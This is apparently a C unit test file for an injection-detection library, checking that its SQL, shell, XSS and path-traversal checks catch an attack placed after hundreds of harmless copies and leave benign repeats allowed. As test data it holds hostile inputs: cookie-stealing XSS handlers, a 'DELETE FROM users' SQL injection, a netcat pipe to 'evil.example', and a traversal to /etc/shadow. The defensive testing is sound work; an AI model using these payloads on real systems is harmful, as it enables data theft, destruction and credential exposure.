/* bound64 (session 30): the sql, shell, xss and path checks judge every
 * place an input occurs (they stopped at 64, path at 16: an input once
 * more past those, where it changes the operation, was allowed; review22,
 * test_agent_review22d_main.c). Other wordings of that attack, and benign
 * twins: a harmless input at hundreds of places stays allowed. */
#include "agent_xss_test.h"

static char op[32768];

/* op = head + count times (pre input post) + tail; returns its length */
static size_t build(const char *head, int count, const char *pre, const char *input,
                    const char *post, const char *tail)
{
	size_t n = 0;
	int w = snprintf(op, sizeof op, "%s", head);

	n = (size_t)w;
	for (int i = 0; i < count; i++) {
		w = snprintf(op + n, sizeof op - n, "%s%s%s", pre, input, post);
		assert_true(w > 0 && (size_t)w < sizeof op - n);
		n += (size_t)w;
	}
	w = snprintf(op + n, sizeof op - n, "%s", tail);
	assert_true(w >= 0 && (size_t)w < sizeof op - n);
	return n + (size_t)w;
}

enum kind { K_HTML, K_SQL, K_SHELL, K_PATH };

static int check(enum kind k, const char *input, size_t n)
{
	static const struct moat_policy *all;
	struct moat_request_info ri = {.method = "POST", .endpoint = "/x"};
	struct moat_request *r = NULL;
	int v = -1;

	if (!all)
		all = moat_policy_parse("{\"interceptors\":{\"sql_injection\":{\"mode\":\"block\"},"
		                        "\"command_injection\":{\"mode\":\"block\"},"
		                        "\"xss\":{\"mode\":\"block\"},"
		                        "\"path_traversal\":{\"mode\":\"block\"}}}",
		                        1, NULL, 0);
	assert_non_null(all);
	ri.policy = all;
	assert_int_equal(moat_request_begin(NULL, &ri, &r), MOAT_ALLOW);
	assert_int_equal(moat_request_add_input(r, MOAT_INPUT_FORM, "v", input, strlen(input)), 0);
	switch (k) {
	case K_HTML:
		v = moat_check_html(r, op, n);
		break;
	case K_SQL:
		v = moat_check_sql(r, MOAT_SQL_POSTGRES, op, n);
		break;
	case K_SHELL:
		v = moat_check_shell(r, op, n);
		break;
	case K_PATH:
		v = moat_check_path(r, op, n, "/srv/app/uploads", 0);
		break;
	}
	moat_request_end(r);
	return v;
}

struct kase {
	enum kind k;
	const char *head, *pre, *input, *post, *tail;
};

/* each case at 0, 70, 300 harmless places before its last one */
static void cases_give(const struct kase *c, size_t nc, int want)
{
	static const int counts[] = {0, 70, 300};
	int bad = 0;

	for (size_t i = 0; i < nc; i++)
		for (size_t j = 0; j < sizeof counts / sizeof counts[0]; j++) {
			size_t n =
			    build(c[i].head, counts[j], c[i].pre, c[i].input, c[i].post, c[i].tail);
			if (check(c[i].k, c[i].input, n) != want) {
				print_message("%s at %d places: %.60s...\n",
				              want == MOAT_BLOCK ? "allowed" : "blocked", counts[j],
				              op);
				bad++;
			}
		}
	if (bad)
		fail_msg("%d wrong", bad);
}

static void an_attack_after_many_harmless_copies_fires(void **state)
{
	static const struct kase c[] = {
	    /* a comment's author shown as text in every row, then in a title */
	    {K_HTML, "<table>", "<tr><td>", "\" onmouseover=\"alert(document.cookie)", "</td></tr>",
	     "</table><a title=\"\" onmouseover=\"alert(document.cookie)\">me</a>"},
	    /* a tag in an HTML comment is text there; in the body it opens */
	    {K_HTML, "<div>", "<!-- ", "<img src=x onerror=prompt(8)>", " -->",
	     "<p><img src=x onerror=prompt(8)></p></div>"},
	    /* inside '...' (escaped rows of a bulk insert), then bare in LIMIT */
	    {K_SQL, "INSERT INTO log(msg) VALUES ", "('", "9; DELETE FROM users", "'),",
	     "('x'); SELECT 1 LIMIT 9; DELETE FROM users"},
	    /* "..." words of an argument list, then unquoted */
	    {K_SHELL, "printf '%s\\n'", " \"", "a|nc evil.example 4444", "\"",
	     " ; echo a|nc evil.example 4444"},
	    /* part of file names, then its own segments */
	    {K_PATH, "/srv/app/uploads/", "a", "..", "b_", "/../../../etc/shadow"},
	};
	(void)state;
	cases_give(c, sizeof c / sizeof c[0], MOAT_BLOCK);
}

static void a_harmless_input_at_hundreds_of_places_stays_allowed(void **state)
{
	static const struct kase c[] = {
	    /* a city in every search result, as text and in quoted titles */
	    {K_HTML, "<ol>", "<li title=\"", "New York", "\">hotel</li>", "</ol>"},
	    /* a class name from a setting in unquoted attributes */
	    {K_HTML, "<body>", "<span class=", "dark-mode", ">.</span>", "</body>"},
	    /* a price in every cell */
	    {K_HTML, "<table>", "<td>", "12.50", "</td>", "</table>"},
	    /* the same date in every row of a bulk insert */
	    {K_SQL, "INSERT INTO visits(day, n) VALUES ", "('", "2026-12-07", "', 1), ",
	     "('2026-12-08', 0)"},
	    /* a LIKE pattern over many columns (judged at every place) */
	    {K_SQL, "SELECT * FROM t WHERE ", "c LIKE '%", "o'' brien", "%' OR ", "FALSE"},
	    /* a value repeated in a long IN list */
	    {K_SQL, "SELECT * FROM t WHERE id IN (", "", "-42", ", ", "0)"},
	    /* a file name many times, quoted and not */
	    {K_SHELL, "tar -cf out.tar", " ", "report-2026.txt", "", ""},
	    /* a directory name at many depths */
	    {K_PATH, "/srv/app/uploads", "/", "img-1", "", "/x.png"},
	};
	(void)state;
	cases_give(c, sizeof c / sizeof c[0], MOAT_ALLOW);
}

/* The price (README): past the 64 places judged in full, the shell and
 * xss checks do not judge a form that may change the operation place by
 * place (each costs a window or a read of the page) but fail closed, even
 * where every place is quoted: a user's text with a quote, a space or a
 * ';' at 65 places of one line or page is rare. (The SQL check judges
 * every place under its cost bound.) */
static void a_form_that_may_change_it_at_many_places_fails_closed(void **state)
{
	static const struct kase c[] = {
	    {K_SHELL, "echo", " '", "a b; c", "'", ""},
	    {K_HTML, "<ul>", "<li>", "a=b(c)", "</li>", "</ul>"},
	};
	static const char *const rule[] = {"cmd.too_many_places", "xss.too_many_places"};
	(void)state;
	for (size_t i = 0; i < sizeof c / sizeof c[0]; i++) {
		struct moat_request_info ri = {.method = "POST", .endpoint = "/x"};
		const struct moat_policy *p = moat_policy_parse(
		    "{\"interceptors\":{\"sql_injection\":{\"mode\":\"block\"},"
		    "\"command_injection\":{\"mode\":\"block\"},\"xss\":{\"mode\":\"block\"}}}",
		    1, NULL, 0);
		struct moat_request *r = NULL;
		size_t n;
		int v;

		for (int count = 64; count <= 65; count++) {
			n = build(c[i].head, count, c[i].pre, c[i].input, c[i].post, c[i].tail);
			ri.policy = p;
			assert_int_equal(moat_request_begin(NULL, &ri, &r), MOAT_ALLOW);
			moat_request_add_input(r, MOAT_INPUT_FORM, "v", c[i].input,
			                       strlen(c[i].input));
			v = c[i].k == K_SQL     ? moat_check_sql(r, MOAT_SQL_SQLITE, op, n)
			    : c[i].k == K_SHELL ? moat_check_shell(r, op, n)
			                        : moat_check_html(r, op, n);
			if (count == 64) {
				assert_int_equal(v, MOAT_ALLOW); /* all 64 judged: harmless */
			} else {
				assert_int_equal(v, MOAT_BLOCK);
				assert_non_null(moat_request_event(r));
				assert_string_equal(moat_request_event(r)->rule, rule[i]);
			}
			moat_request_end(r);
		}
		moat_policy_release(p);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(an_attack_after_many_harmless_copies_fires),
	    cmocka_unit_test(a_harmless_input_at_hundreds_of_places_stays_allowed),
	    cmocka_unit_test(a_form_that_may_change_it_at_many_places_fails_closed),
	};
	return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
